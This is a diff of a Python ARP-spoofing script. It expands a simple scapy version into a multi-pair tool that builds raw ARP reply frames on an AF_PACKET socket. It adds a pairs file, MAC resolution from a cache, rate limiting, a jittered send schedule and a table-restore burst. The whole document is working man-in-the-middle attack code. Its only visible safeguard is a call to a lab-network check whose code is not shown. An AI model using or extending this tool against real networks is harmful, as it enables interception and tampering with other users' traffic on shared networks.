@@ -1,24 +1,60 @@
-from scapy.all import *
+import argparse
+import heapq
+import random
+import socket
 import time
 import sys
 
-conf.verb = 0
-gateway_ip = "192.168.20.1" 
-gateway_mac = "08:00:27:54:1c:f8"
+from arp_scan import arp_cache, check_lab_network, l2_socket, default_iface, iface_mac, \
+    mac_bytes, mac_str, CACHE_PATH, CACHE_TTL, ETH_P_ARP, ETH_P_IP, ARP_REPLY, ARP_FRAME, BROADCAST
+
+gateway_ip = "192.168.20.1"
 target_ip = "192.168.20.2"
-target_mac = "08:00:27:b5:42:62"
+
 def main():
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--fast", action="store_true",
+                        help="raw frames on one AF_PACKET socket, many pairs")
+    parser.add_argument("--iface", default=None)
+    parser.add_argument("--target", default=target_ip)
+    parser.add_argument("--gateway", default=gateway_ip)
+    parser.add_argument("--pairs", default=None,
+                        help="file of 'target_ip [target_mac] gateway_ip [gateway_mac]' lines")
+    parser.add_argument("--cache", default=CACHE_PATH, help="ip to mac cache(see arp_scan.py)")
+    parser.add_argument("--ttl", type=float, default=CACHE_TTL, help="seconds a cached mac is used")
+    parser.add_argument("--rate", type=float, default=1000, help="max frames per second")
+    parser.add_argument("--interval", type=float, default=5, help="seconds between replies to a pair")
+    parser.add_argument("--jitter", type=float, default=0.2, help="interval +- ratio")
+    args = parser.parse_args()
+
+    iface = args.iface or default_iface()
+    pairs = [(args.target, None, args.gateway, None)]
+    if args.pairs:
+        pairs = read_pairs(args.pairs)
+    pairs = resolve_pairs(iface, pairs, arp_cache(args.cache, args.ttl))
+    if not pairs:
+        print("[*] No pair answered.")
+        sys.exit(1)
     try:
         print("[*] Start ARPspoofing...")
-        poison_target(target_ip,target_mac,gateway_ip,gateway_mac)
+        if args.fast:
+            poison_pairs(iface, pairs, args.rate, args.interval, args.jitter)
+        else:
+            poison_target(*pairs[0])
     except KeyboardInterrupt:
         pass
     finally:
         time.sleep(2)
-        restore_table(gateway_ip,gateway_mac,target_ip,target_mac)
+        restore_table(pairs, iface)
         sys.exit(0)
 
 def poison_target(target_ip,target_mac,gateway_ip,gateway_mac):
+    # the two layers only, scapy.all loads every layer and takes seconds.
+    from scapy.config import conf
+    from scapy.layers.l2 import Ether, ARP
+    from scapy.sendrecv import sendp
+    conf.verb = 0
+
     poisoning_target = Ether(dst=target_mac)/ARP()
     poisoning_target.op = 2
     poisoning_target.psrc = gateway_ip
@@ -36,10 +72,123 @@ def poison_target(target_ip,target_mac,gateway_ip,gateway_mac):
     print ("[*] Finished.")
     return
 
-def restore_table(gateway_ip,gateway_mac,target_ip,target_mac):
+def read_pairs(path):
+    """
+    return value: list of (target_ip, target_mac, gateway_ip, gateway_mac),
+        macs are None when the line has ips only.
+    """
+    pairs = []
+    with open(path) as f:
+        for line in f:
+            line = line.split("#", 1)[0].split()
+            if not line:
+                continue
+            if len(line) == 2:
+                pairs.append((line[0], None, line[1], None))
+            elif len(line) == 4:
+                pairs.append(tuple(line))
+            else:
+                raise ValueError("invalid pair: %s" % " ".join(line))
+    return pairs
+
+def resolve_pairs(iface, pairs, cache):
+    """
+    fill the missing macs from the cache, the unknown ones are discovered
+    in one ARP burst. pairs with a host not answering are left out.
+    """
+    ips = set()
+    for t_ip, t_mac, g_ip, g_mac in pairs:
+        if t_mac is None:
+            ips.add(t_ip)
+        if g_mac is None:
+            ips.add(g_ip)
+    macs = cache.resolve(iface, sorted(ips)) if ips else {}
+    resolved = []
+    for t_ip, t_mac, g_ip, g_mac in pairs:
+        t_mac = t_mac or macs.get(t_ip)
+        g_mac = g_mac or macs.get(g_ip)
+        if t_mac and g_mac:
+            resolved.append((t_ip, t_mac, g_ip, g_mac))
+        else:
+            print("[*] %s or %s did not answer, skipped." % (t_ip, g_ip))
+    return resolved
+
+def arp_reply_frame(dst_mac, src_mac, psrc, pdst, hwsrc=None):
+    """
+    ARP reply "psrc is at hwsrc" sent to pdst(dst_mac) as raw bytes.
+    """
+    check_lab_network(psrc)
+    check_lab_network(pdst)
+    dst = mac_bytes(dst_mac)
+    src = mac_bytes(src_mac)
+    hwsrc = src if hwsrc is None else mac_bytes(hwsrc)
+    return ARP_FRAME.pack(dst, src, ETH_P_ARP,
+                          1, ETH_P_IP, 6, 4, ARP_REPLY,
+                          hwsrc, socket.inet_aton(psrc), dst, socket.inet_aton(pdst))
+
+def poison_pairs(iface, pairs, rate=1000, interval=5, jitter=0.2, sock=None):
+    """
+    poison every (target_ip, target_mac, gateway_ip, gateway_mac) pair
+    until interrupted. frames are built once, each pair is sent every
+    interval(+- jitter) seconds and no more than rate frames per second
+    go out.
+    """
+    own_mac = iface_mac(iface)
+    frames = []
+    for t_ip, t_mac, g_ip, g_mac in pairs:
+        frames.append((arp_reply_frame(t_mac, own_mac, g_ip, t_ip),
+                       arp_reply_frame(g_mac, own_mac, t_ip, g_ip)))
+
+    sock = sock or l2_socket(iface)
+    # (due time, pair index), first rounds spread over the interval
+    start = time.monotonic()
+    schedule = [(start + random.uniform(0, interval), i) for i in range(len(frames))]
+    heapq.heapify(schedule)
+    gap = 2.0 / rate
+    next_send = start
+    sent = 0
+    try:
+        while True:
+            due, i = schedule[0]
+            now = time.monotonic()
+            wait = max(due, next_send) - now
+            if wait > 0:
+                time.sleep(wait)
+                now = time.monotonic()
+            for frame in frames[i]:
+                sock.send(frame)
+            sent += 2
+            next_send = max(next_send, now - gap) + gap
+            heapq.heapreplace(schedule, (due + interval * random.uniform(1 - jitter, 1 + jitter), i))
+    finally:
+        print("[*] Finished. %d frames sent." % sent)
+
+def restore_table(pairs, iface=None, count=3):
+    """
+    send the real addresses to both sides of every pair and as
+    gratuitous broadcast replies to the segment, all frames count times
+    in one burst on one socket.
+    the ethernet source is ours, with another host's mac the switch
+    would learn that host on our port.
+    """
     print("[*] Restoring target.")
-    send(ARP(op=1,psrc=gateway_ip,hwsrc=gateway_mac,pdst=target_ip,hwdst=target_mac),count=3)
+    iface = iface or default_iface()
+    own_mac = iface_mac(iface)
+    broadcast = mac_str(BROADCAST)
+    frames = []
+    for t_ip, t_mac, g_ip, g_mac in pairs:
+        frames.append(arp_reply_frame(t_mac, own_mac, g_ip, t_ip, hwsrc=g_mac))
+        frames.append(arp_reply_frame(g_mac, own_mac, t_ip, g_ip, hwsrc=t_mac))
+        # gratuitous: "ip is at mac" for every host on the segment
+        frames.append(arp_reply_frame(broadcast, own_mac, g_ip, g_ip, hwsrc=g_mac))
+        frames.append(arp_reply_frame(broadcast, own_mac, t_ip, t_ip, hwsrc=t_mac))
+    sock = l2_socket(iface)
+    try:
+        for _ in range(count):
+            for frame in frames:
+                sock.send(frame)
+    finally:
+        sock.close()
 
 if __name__=="__main__":
     main()
-